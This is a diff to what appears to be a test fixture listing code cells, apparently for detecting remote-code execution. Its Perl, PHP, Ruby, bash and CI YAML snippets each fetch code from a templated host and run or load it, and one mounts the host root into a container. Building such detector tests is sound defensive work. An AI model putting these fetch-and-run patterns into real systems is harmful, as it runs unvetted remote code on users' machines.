@@ -134,6 +134,8 @@ function remoteTreeCells(): Exec2Case[] {
     cell('bash', 'image · podman host root', `podman run --rm -v /:/host:rw registry.${HOST}/ops/agent`),
     cell('perl', 'fetch · lwp simple get run', `use LWP::Simple;\n\nmy $body = get('${SCRIPT}') or die;\nmy @run = ('/bin/sh', '-c', $body);\nsystem(@run);`),
     cell('perl', 'fetch · lwp simple getstore run', `use LWP::Simple qw(getstore);\n\ngetstore('${BINARY}', '/tmp/helperd');\nchmod 0755, '/tmp/helperd';\nsystem('/tmp/helperd');`),
+    cell('php', 'fetch · cached then included', `<?php\n$cache = sys_get_temp_dir() . '/helper.php';\n$body = file_get_contents('https://${HOST}/get/helper.php');\nfile_put_contents($cache, $body);\nrequire $cache;`),
+    cell('ruby', 'fetch · saved then loaded', `require "net/http"\n\npath = File.join(Dir.tmpdir, "helper.rb")\nbody = Net::HTTP.get(URI("https://${HOST}/get/helper.rb"))\nFile.write(path, body)\nload path`),
     cell('yaml', 'ci include · gitlab remote', `include:\n  - remote: "https://${HOST}/ci/pipeline.yml"\n\nstages: [test]\n`),
     cell('yaml', 'ci step · piped install', `jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL ${SCRIPT} | bash\n`),
     cell('yaml', 'ci step · pip from git', `jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip install git+${GIT}\n`),
